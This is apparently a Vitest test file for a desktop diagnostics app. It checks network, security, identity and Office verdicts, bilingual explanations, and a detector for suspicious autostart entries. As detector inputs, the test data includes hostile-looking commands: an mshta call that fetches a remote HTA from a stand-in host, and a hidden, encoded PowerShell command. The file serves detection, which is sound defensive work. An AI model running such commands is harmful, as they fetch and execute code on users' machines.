import { describe, expect, it } from 'vitest';
import { CHECK_IDS, checkTexts } from '@shared/texts';
import type { CheckId } from '@shared/texts';
import { oddityOf } from '../../../../electron/diagnostics/autostart';
import { isProtectedName } from '../../../../electron/diagnostics/data/known-hosts';
import { officeBuild, suiteYear } from '../../../../electron/diagnostics/data/office-support';
import { CHECKS } from '../../../../electron/diagnostics/registry';
import { unverified } from '../../../../electron/probes/reading';
import { APP_CASES } from './cases/app';
import { joined } from './cases/domain';
import { NETWORK_CASES } from './cases/network';
import { SECURITY_CASES } from './cases/security';
import { fact, judge, refused } from './facts';
import { identity } from './check-facts';
import type { Cases, SomeFacts } from './facts';

const CASES: Readonly<Partial<Record<CheckId, Cases>>> = { ...NETWORK_CASES, ...SECURITY_CASES, ...APP_CASES };
const IDS = CHECK_IDS.filter((id) => /^(net|wifi|prn|sec|idn|app)\./.test(id));

/**
 * Values that say what a thing is called, add to a sentence or matter only together with another: without one of them the verdict stands.
 * Everything else decides, so that a pass must not survive its loss.
 */
const TOLD_ONLY: Readonly<Partial<Record<CheckId, string>>> = {
  'net.link': 'driver duplex mac name',
  'net.errors': 'adapter dropped newErrors',
  'net.ipconfig':
    'adapter addresses.address addresses.duplicate addresses.origin addresses.prefix dhcpServer dnsServers gateways leaseEndsAt up',
  'net.gateway': 'averageMs connected device gateway neighbour received sent',
  'net.path': 'host jitterMs port',
  'net.dns': 'responseCode server',
  'net.proxy': 'address durationMs reachable',
  'net.captive': 'missed source',
  'net.profile': 'adapter name',
  'net.vpn': 'hasDns lastError name product version',
  'wifi.signal':
    'adapter connection.bssid connection.channel connection.frequencyMhz connection.noiseDbm connection.rateBitPerS connection.security connection.ssid radioOn',
  'wifi.security':
    'adapter connection.bssid connection.channel connection.frequencyMhz connection.noiseDbm connection.rateBitPerS connection.signalDbm connection.ssid radioOn',
  'prn.spooler': 'crashes product',
  'prn.queues': 'acceptingJobs isDefault name oldestJobMinutes queuedJobs stateReason uri',
  'prn.port': 'durationMs host kind port printer',
  'sec.av': 'enabled name passive signatureAgeDays signatureVersion tamperProtected upToDate version',
  'sec.firewall': 'active product profiles.name rules',
  'sec.encryption': 'method volume',
  'sec.secureboot':
    'board firmware.mode firmware.releasedOn firmware.tpmVersion firmware.vendor firmware.version machine.chassis machine.manufacturer machine.model machine.serial machine.uuid',
  'sec.tpm':
    'board firmware.mode firmware.releasedOn firmware.secureBoot firmware.vendor firmware.version machine.chassis machine.manufacturer machine.model machine.serial machine.uuid',
  'sec.platform': 'detail feature',
  'sec.accounts': 'admins autoLogon guestEnabled remoteDesktop remoteShell rootRemoteShell smb1',
  'sec.certs': 'inUse issuer store subject usage',
  'sec.remote': 'id name running unattended version',
  'sec.hosts': 'entries.address',
  'sec.autostart': 'command enabled name signed source',
  'idn.join': 'deviceAuthStatus deviceId domain mdm primaryRefreshToken tenant windowsHello',
  'idn.channel': 'detail domain',
  'idn.dc': 'domain name ports.port',
  'idn.time': 'source',
  'idn.kerberos': 'errors.code errors.count expiresAt skewSeconds',
  'idn.gpo': 'latest',
  'idn.password': 'current expiresAt failedSignIns lockedOut mustChange neverExpires user',
  'idn.lockout': 'current expiresAt failedSignIns mustChange neverExpires user',
  'idn.sso': 'deviceId domain mdm tenant windowsHello',
  'app.office.channel': 'bits channel lastUpdatedAt updatesEnabled version',
  'app.office.licence': 'channel graceEndsAt partialKey product state',
  'app.mail.profile': 'accounts cached client isDefault profile',
  'app.mail.datafile': 'accounts cached client isDefault profile',
  'app.mail.addins': 'disabledByClient loadMs name',
  'app.teams': 'cacheBytes version',
};

const GARBAGE: readonly unknown[] = [undefined, null, Number.NaN, {}];

/** The value with one leaf replaced: [path, copy]; a leaf that was not known before is left as it is. */
function* spoilt(value: unknown, by: unknown, path = ''): Generator<readonly [string, unknown]> {
  if (typeof value !== 'object' || value === null) {
    if (value !== null) yield [path, by];
    return;
  }
  for (const [key, child] of Object.entries(value)) {
    for (const [at, copy] of spoilt(child, by, `${path}.${key}`)) {
      yield [at, Array.isArray(value) ? value.with(Number(key), copy) : { ...value, [key]: copy }];
    }
  }
}

/** Leaves whose loss a pass survives, without the numbers of lists: "addresses.prefix". */
function survivors(id: CheckId): string[] {
  const check = CHECKS.find((one) => one.id === id);
  const found = new Set<string>();
  for (const [outcome, facts] of CASES[id] ?? []) {
    if (outcome !== 'pass') continue;
    for (const key of check?.needs ?? []) {
      const reading = facts[key];
      if (reading?.status !== 'known') continue;
      for (const garbage of GARBAGE) {
        for (const [path, value] of spoilt(reading.value, garbage)) {
          const result = judge(id, { ...facts, [key]: { ...reading, value } } as SomeFacts);
          if (result.outcome === 'pass') found.add(path.replaceAll(/\.\d+/g, '').slice(1));
        }
      }
    }
  }
  return [...found].toSorted();
}

describe.each(IDS)('%s', (id) => {
  it('does not pass without any of the values that decide', () => {
    const told = new Set((TOLD_ONLY[id] ?? '').split(' '));
    expect(survivors(id).filter((path) => !told.has(path))).toEqual([]);
  });

  it('explains every verdict in both languages, with limits, source and next step', () => {
    for (const [outcome, facts] of CASES[id] ?? []) {
      for (const language of ['en', 'de'] as const) {
        const result = judge(id, facts, language);
        const texts = [result.summary, result.nextStep ?? '', ...(result.items ?? []).map((item) => item.summary)];
        expect(texts.join(' ')).not.toMatch(/undefined|NaN|\[object|: null/);
        expect(result.summary).toMatch(/\S[.]$/);
        expect(result.source).toBeTruthy();
        expect(result.threshold).toBeTruthy();
        if (outcome !== 'pass' && outcome !== 'notApplicable') expect(result.nextStep).toBeTruthy();
      }
    }
  });

  it('says in both languages what it is for', () => {
    for (const language of ['en', 'de'] as const) {
      const about = checkTexts(language).abouts[id];
      expect(about?.plain).toMatch(/^(Ob|Whether|Welche|Which) .+\.$/);
      expect(about?.technical).toMatch(/^[A-Z].{20,}\.$/);
    }
  });
});

const portable = fact(identity('laptop'));

/** What the probes find on an ordinary office notebook away from its company, and on a machine of its own. */
const NOTEBOOK: SomeFacts = {
  join: joined('hybrid'),
  domainControllers: fact([]),
  secureChannel: fact({ domain: 'corp.example', trusted: null, detail: null }),
  kerberos: fact({ ticket: 'none', expiresAt: null, skewSeconds: null, errors: [] }),
  networkProfiles: fact([{ adapter: 'WLAN', name: 'Home', category: 'public' }]),
  identity: portable,
};

describe('an ordinary machine', () => {
  it('of the company in a foreign network is not called broken', () => {
    for (const id of IDS) expect(`${id} ${judge(id, NOTEBOOK).outcome}`).not.toMatch(/(^(?!idn\.dc ).* warn|fail)$/);
    expect(judge('idn.dc', NOTEBOOK).outcome).toBe('warn');
    expect(judge('idn.channel', NOTEBOOK)).toMatchObject({ outcome: 'couldNotRun', reason: 'noSource' });
  });

  it('of its own is asked nothing about a domain, whatever could not be read', () => {
    const facts: SomeFacts = {
      join: joined('workgroup'),
      secureChannel: refused('nltest'),
      kerberos: refused('klist'),
      groupPolicy: refused('wevtutil'),
      domainControllers: refused('nltest'),
    };
    for (const id of ['idn.join', 'idn.channel', 'idn.dc', 'idn.kerberos', 'idn.gpo', 'idn.sso'] as const)
      expect(judge(id, facts).outcome).toBe('notApplicable');
  });

  it('without a radio, a printer or Office has nothing to judge there', () => {
    const facts: SomeFacts = { wifi: fact([]), printers: fact([]), office: fact([]), mailProfiles: fact([]) };
    for (const id of IDS.filter((one) => /^(wifi|prn)\.|^app\.(office|mail\.(profile|datafile))/.test(one)))
      expect(`${id} ${judge(id, facts).outcome}`).toBe(`${id} notApplicable`);
  });

  it('with a gap in the list of radios does not count as one without', () => {
    const facts: SomeFacts = { wifi: fact([], [{ what: 'wifi.wlan0', reason: 'notPermitted' as const }]) };
    expect(judge('wifi.signal', facts)).toMatchObject({ outcome: 'couldNotRun', reason: 'notPermitted' });
    expect(judge('wifi.stability', facts).outcome).toBe('couldNotRun');
  });
});

describe('a finding', () => {
  it('names the remote-support program with version and id, and asks instead of accusing', () => {
    const tool = { name: 'AnyDesk', version: '8.0.9', id: '123 456 789', running: true, unattended: true };
    const result = judge('sec.remote', { remoteTools: fact([tool]) });
    expect(result.items?.[0]).toMatchObject({ subject: 'AnyDesk 8.0.9', summary: 'Starts by itself, id 123 456 789.' });
    expect(result.nextStep).toContain('Ask whether this is wanted');
  });

  it('explains the error number of a VPN', () => {
    const vpn = { name: 'Office', product: null, version: null, hasRoute: null, hasDns: null };
    const result = judge('net.vpn', { vpns: fact([{ ...vpn, connected: false, lastError: 'Error 809' }]) });
    expect(result.items?.[0]?.summary).toContain('UDP 500');
  });

  it('says where consent to location is given', () => {
    expect(judge('wifi.signal', { wifi: refused('netsh') }).nextStep).toContain('location');
  });

  it('keeps its worst subjects on top and its sentence short', () => {
    const errors = (packets: number, broken: number, at: number) => ({
      adapter: `eth${String(at)}`,
      packets,
      errors: broken,
      dropped: 0,
      newErrors: 0,
    });
    const adapters = Array.from({ length: 9 }, (_, at) => errors(1e6, at === 8 ? 5_000 : 500, at));
    const result = judge('net.errors', { adapterErrors: fact(adapters) });
    expect(result.items?.[0]).toMatchObject({ subject: 'eth8', outcome: 'fail' });
    const warned = judge('net.errors', { adapterErrors: fact(adapters.slice(0, 8)) });
    expect(warned.summary).toBe('Some packets arrive damaged: eth0, eth1, eth2, eth3, eth4, eth5, ….');
  });

  it('says that it rests on a format nobody has captured', () => {
    const spooler = unverified(fact({ product: 'Spooler', running: true, crashes: 0 }));
    expect(judge('prn.spooler', { spooler })).toMatchObject({ outcome: 'pass', unverified: true });
  });
});

describe('patterns', () => {
  it.each([
    ['C:\\Users\\a\\AppData\\Local\\Temp\\x.exe', 'temporary'],
    ['%TEMP%\\x.exe', 'temporary'],
    ['/var/tmp/x', 'temporary'],
    ['C:\\Users\\Public\\x.vbs', 'temporary'],
    ['mshta http://x.example/a.hta', 'hidden'],
    ['powershell -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A', 'hidden'],
    ['C:\\Users\\a\\AppData\\Roaming\\winsvc\\svc.exe', 'userData'],
    ['C:\\Users\\a\\AppData\\Local\\Programs\\Tool\\tool.exe', null],
    ['C:\\Users\\a\\AppData\\Local\\Discord\\Update.exe --processStart Discord.exe', null],
    ['powershell -File C:\\Scripts\\backup.ps1', null],
    ['/usr/bin/tmpreaper /data', null],
    ['/opt/templates/run', null],
    ['curl -fsS https://hc.example/ping', null],
  ])('of what starts by itself: %s', (command, oddity) => {
    expect(oddityOf(command)).toBe(oddity);
  });

  it.each([
    ['update.microsoft.com', true],
    ['fe2.update.microsoft.com.', true],
    ['DATABASE.ClamAV.net', true],
    ['myupdate.microsoft.com.example', false],
    ['xchase.com', false],
  ])('of protected names: %s', (name, wanted) => {
    expect(isProtectedName(name)).toBe(wanted);
  });

  it('of Office tell a suite of a year from a subscription and its build', () => {
    expect(suiteYear('Microsoft Office Professional Plus 2019', null)).toBe('2019');
    expect(suiteYear('ProPlus2021Volume', 'Perpetual2021')).toBe('2021');
    expect(suiteYear('Microsoft 365 Apps for enterprise', 'Current')).toBeNull();
    expect(officeBuild('16.0.19127.20532')).toBe(19127);
    expect(officeBuild('16.90.1')).toBeNull();
  });
});
